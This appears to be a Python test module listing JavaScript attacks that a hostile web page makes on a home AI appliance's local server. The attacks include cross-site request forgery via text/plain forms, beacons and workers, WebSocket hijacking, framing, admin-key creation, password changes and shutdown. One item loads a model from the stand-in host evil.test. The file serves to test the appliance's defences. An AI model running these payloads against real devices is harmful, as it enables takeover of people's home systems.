"""What a hostile page tries to do with an appliance in the house of whoever looks at it.

Each attack is the body of an async JavaScript function of the appliance's address `T`, its WebSocket's `W`, and `S`:
all secrets, so that nothing is refused for a wrong guess. It returns what the page got to know, "" where that is
nothing. Nobody's answer is asked for twice, as one that is known would not be computed again.
"""

HELPERS = """
document.body.replaceChildren();
const JSON_HEAD = { "Content-Type": "application/json" };
const Q = `repeat 9 ${Math.random()}`;
const CHAT = JSON.stringify({ model: "starter", messages: [{ role: "user", content: Q }] });
const PROMPT = JSON.stringify({ model: "starter", prompt: Q });
const CLAIM = JSON.stringify({ code: S.code, password: "the attacker's password" });
const SIGN_IN = JSON.stringify({ name: "admin", password: S.password });
const OTHER = JSON.stringify({ old: S.password, password: "the attacker's password" });
const SIMPLE = { mode: "no-cors", credentials: "include" };
const read = async (response) => (response.ok ? await response.text() : "");
const get = (path, options = { credentials: "include" }) => fetch(T + path, options).then(read);
const send = (method, path, body, options = {}) =>
    fetch(T + path, { method, body, credentials: "include", headers: JSON_HEAD, ...options }).then(read);
const post = (path, body, options = {}) => fetch(T + path, { method: "POST", body, ...SIMPLE, ...options }).then(read);
const typed = (type) => ({ headers: { "Content-Type": type } });
const file = (path) => `${T}${S.files}/${path}?${Math.random()}`;
const make = (name, properties) => Object.assign(document.createElement(name), properties);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const seen = (element) => new Promise((resolve) => {
    element.addEventListener("load", () => resolve(`${element.localName} is there`));
    element.addEventListener("error", () => resolve(""));
    setTimeout(() => resolve(""), 1500);
    document.body.append(element);
});
const drawn = async (element) => {
    await seen(element);
    return element.getSVGDocument()?.querySelector("svg") ? "drawn" : "";
};
const submit = (path, type, words, method = "post", target = "") => {
    const frame = document.body.appendChild(make("iframe", { name: `f${Math.random()}` }));
    const form = make("form", { action: T + path, method, enctype: type, target: target || frame.name });
    const cut = words.lastIndexOf("}");
    form.append(make("input", { name: `${words.slice(0, cut)},"x":"`, value: '"}' }));
    document.body.append(form);
    form.submit();
    return "";
};
const SAY = () => JSON.stringify({ type: "say", ref: String(Math.random()), text: Q });
const talk = (socket) => new Promise((resolve) => {
    socket.onopen = () => socket.send(SAY());
    socket.onmessage = ({ data }) => resolve(data);
    socket.onerror = socket.onclose = () => resolve("");
});
const told = (start) => new Promise((resolve) => {
    addEventListener("message", ({ data }) => resolve(data), { once: true });
    start();
    setTimeout(() => resolve(""), 1500);
});
const inside = (script) => `<body><script>const T = ${JSON.stringify(T)}, W = ${JSON.stringify(W)};
    const CHAT = ${JSON.stringify(CHAT)}, say = (words) => parent.postMessage(words, "*");
    (async () => { ${script} })().then(say, () => say(""));</` + "script>";
const nowhere = (script, sandbox = "allow-scripts") =>
    told(() => document.body.append(make("iframe", { sandbox, srcdoc: inside(script) })));
const asked = `const r = await fetch(T + "/v1/chat/completions", { method: "POST", body: CHAT, mode: "no-cors" });
    return r.ok ? r.text() : ""`;
const talked = `return new Promise((resolve) => { const s = new WebSocket(W + "/ws");
    s.onmessage = (m) => resolve(m.data); s.onerror = s.onclose = () => resolve("") })`;
const worker = (source) => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    worker.onmessage = ({ data }) => resolve(data);
    worker.postMessage([T, W, S, SAY()]);
});
"""

ANYBODY: dict[str, str] = {
    # ── reading ──
    "read the page": 'return get("/", {})',
    "read who is signed in": 'return get("/api/session")',
    "read without CORS": 'return get("/v1/models", SIMPLE)',
    "read what anybody measures": 'return get("/metrics")',
    "read a head": """return fetch(T + "/openapi.json", { method: "HEAD" })
        .then((found) => (found.ok ? found.headers.get("Content-Security-Policy") : ""))""",
    "read by XMLHttpRequest": """const x = new XMLHttpRequest(); x.open("GET", T + "/v1/models", false);
        x.withCredentials = true; x.send(); return x.status === 200 ? x.responseText : "" """,
    "read by EventSource": """return new Promise((resolve) => {
        const source = new EventSource(T + "/v1/stream?conv_id=kittens&from=0", { withCredentials: true });
        source.onmessage = ({ data }) => { source.close(); resolve(data) };
        source.onerror = () => { source.close(); resolve("") } })""",
    "read a module": 'return Object.keys(await import(file("base/storage.js"))).join()',
    "read JSON as a module": """return JSON.stringify((await import(T + "/openapi.json",
        { with: { type: "json" } })).default)""",
    "read a script in a worker": """return worker(`onmessage = ({ data: [T, , { files }] }) => {
        try { importScripts(T + files + "/early.js?worker"); postMessage("it ran") }
        catch (error) { postMessage(error.name === "NetworkError" ? "" : error.name) } }`)""",
    "measure an answer": """const url = T + "/v1/models?" + Math.random();
        await fetch(url, SIMPLE).then((answer) => answer.text()); await wait(50);
        const [found] = performance.getEntriesByName(url);
        return found?.responseStatus < 400 ? found.encodedBodySize || found.responseStatus || "" : "" """,
    # ── asking, in ways that no preflight stops ──
    "ask as text": 'return post("/v1/chat/completions", CHAT, typed("text/plain"))',
    "ask as a form": 'return post("/v1/chat/completions", CHAT, typed("application/x-www-form-urlencoded"))',
    "ask as parts": 'return post("/api/chat", CHAT, typed("multipart/form-data"))',
    "ask without a type": 'return post("/v1/responses", new Blob([JSON.stringify({ input: Q })]))',
    "ask without cookies": 'return post("/v1/completions", PROMPT, { credentials: "omit" })',
    "ask without a referrer": 'return post("/v1/chat/completions", CHAT, { referrerPolicy: "no-referrer" })',
    "ask by beacon": 'navigator.sendBeacon(T + "/api/generate", PROMPT); return ""',
    "ask while leaving": 'return post("/api/chat", CHAT, { keepalive: true })',
    "ask in a worker": """return worker(`onmessage = async ({ data: [T] }) => {
        const body = '{"model":"starter","prompt":"repeat 9 ${Math.random()}"}';
        const answer = await fetch(T + "/api/generate", { method: "POST", mode: "no-cors", body }).catch(() => null);
        postMessage(answer?.ok ? await answer.text() : "") }`)""",
    "ask by a form": 'return submit("/api/generate", "text/plain", PROMPT)',
    "ask by a form in a window": """window.open("", "beside");
        return submit("/v1/chat/completions", "text/plain", CHAT, "post", "beside")""",
    "look streams up": """return post("/v1/streams/lookup", '{"conversation_ids":["kittens"]}')""",
    # ── asking as programs do ──
    "ask as JSON": 'return send("POST", "/v1/chat/completions", CHAT)',
    "ask with a key": """return send("POST", "/v1/chat/completions", CHAT,
        { headers: { ...JSON_HEAD, Authorization: "Bearer x" } })""",
    "ask by XMLHttpRequest": """const x = new XMLHttpRequest(); x.open("POST", T + "/api/chat");
        return new Promise((resolve) => { x.upload.onprogress = () => {};
            x.onloadend = () => resolve(x.status === 200 ? x.responseText : ""); x.send(CHAT) })""",
    "stop an answer": 'return send("DELETE", "/v1/stream?conv_id=kittens")',
    # ── WebSockets ──
    "talk": 'return talk(new WebSocket(W + "/ws"))',
    "talk as somebody's page": 'return talk(new WebSocket(W + "/ws?me=somebody"))',
    "talk in a worker": """return worker(`onmessage = ({ data: [, W, , words] }) => {
        const socket = new WebSocket(W + "/ws"); socket.onopen = () => socket.send(words);
        socket.onmessage = (m) => postMessage(m.data); socket.onerror = socket.onclose = () => postMessage("") }`)""",
    # ── embedding ──
    "an image": 'return seen(make("img", { src: file("icons/icon.svg") }))',
    "an image's pixels": """const image = make("img", { crossOrigin: "use-credentials", src: file("icons/192.png") });
        await seen(image); const canvas = make("canvas").getContext("2d"); canvas.drawImage(image, 0, 0);
        return image.complete && image.naturalWidth ? canvas.getImageData(9, 9, 1, 1).data.join() : "" """,
    "a script": 'return seen(make("script", { src: file("early.js") }))',
    "a style sheet": 'return seen(make("link", { rel: "stylesheet", href: file("style/theme.css") }))',
    "an object": 'return drawn(make("object", { data: file("icons/icon.svg"), type: "image/svg+xml" }))',
    "an embedded picture": 'return drawn(make("embed", { src: file("icons/icon.svg"), type: "image/svg+xml" }))',
    "a button of it": 'return seen(make("input", { type: "image", src: file("icons/192.png") }))',
    "a frame around a file": 'return drawn(make("iframe", { src: file("icons/icon.svg") }))',
    "a window": """const other = window.open(T + "/");
        try { while (other.location.href === "about:blank" || other.document.readyState !== "complete") await wait(20);
            return other.document.title } finally { other.close() }""",
}
"""What anybody in the house may do from the appliance's own page."""

CLAIMING: dict[str, str] = {
    "claim it": 'return post("/api/password", CLAIM)',
    "claim it as JSON": 'return send("POST", "/api/password", CLAIM)',
    "claim it by beacon": 'navigator.sendBeacon(T + "/api/password", CLAIM); return ""',
    "claim it by a form": 'return submit("/api/password", "text/plain", CLAIM)',
}
"""What somebody who knows the setup code may do there as long as there is no password."""

ADMIN: dict[str, str] = {
    "read the settings": 'return get("/api/admin/config")',
    "read the log": 'return get("/api/admin/logs")',
    "read the machine's state": 'return get("/api/admin/status", SIMPLE)',
    "take the backup": 'return get("/api/admin/backup")',
    "fetch a model": """return post("/api/admin/models/fetch", '{"name":"kitten"}')""",
    "plant a model": """return post("/api/admin/models/fetch", '{"name":"https://evil.test/evil.gguf"}')""",
    "pull a model": """post("/api/pull", '{"model":"cat"}'); return "" """,
    "use another model": """return post("/api/admin/models/activate", '{"name":"puppy"}')""",
    "delete a model": 'return send("DELETE", "/api/admin/models/puppy")',
    "delete one as Ollama's programs do": """return send("DELETE", "/api/delete", '{"model":"puppy"}')""",
    "change a setting": """return send("PATCH", "/api/admin/config", '{"chat.temperature":1.5}')""",
    "add an account": """return post("/api/admin/accounts",
        JSON.stringify({ name: `eve ${Math.random()}`.slice(0, 20), password: S.password }))""",
    "make a key": """return post("/api/admin/keys", '{"name":"evil","admin":true}')""",
    "make a key by a form": """return submit("/api/admin/keys", "text/plain", '{"name":"evil","admin":true}')""",
    "restart the engine": 'return post("/api/admin/engine/restart", "")',
    "restart it by a form": 'return submit("/api/admin/engine/restart", "multipart/form-data", "{}")',
    "switch it off": 'return post("/api/admin/shutdown", "")',
    "reboot it by a form": 'return submit("/api/admin/reboot", "application/x-www-form-urlencoded", "{}")',
    "sign somebody in": 'return post("/api/session", SIGN_IN)',
    "sign somebody in by a form": 'return submit("/api/session", "text/plain", SIGN_IN)',
    "sign somebody out": 'return send("DELETE", "/api/session")',
    "set another password": 'return post("/api/password", OTHER)',
}
"""What the admin may do there."""

NOBODY: dict[str, str] = {
    "frame the page": """const frame = make("iframe", { src: T + "/" }); await seen(frame);
        return frame.contentDocument?.querySelector("#message") ? "framed" : "" """,
    "frame it in a sandbox": """const frame = make("iframe", { src: T + "/" });
        frame.sandbox = "allow-scripts allow-same-origin"; await seen(frame); return "" """,
    "frame it in an object": 'await seen(make("object", { data: T + "/", type: "text/html" })); return ""',
    "ask from nowhere": "return nowhere(asked)",
    "talk from nowhere": "return nowhere(talked)",
    "ask from a data: address": """return told(() => document.body.append(make("iframe",
        { src: "data:text/html," + encodeURIComponent(inside(asked)) })))""",
    "talk from a data: address": """return told(() => document.body.append(make("iframe",
        { src: "data:text/html," + encodeURIComponent(inside(talked)) })))""",
    "ask by a form from nowhere": """return nowhere(`const form = document.createElement("form");
        Object.assign(form, { action: T + "/v1/chat/completions", method: "post", enctype: "text/plain" });
        const words = document.createElement("input"); words.name = CHAT.slice(0, -1) + ',"x":"'; words.value = '"}';
        form.append(words); document.body.append(form); form.submit(); return ""`, "allow-scripts allow-forms")""",
}
"""What no page may do, not even the appliance's own."""
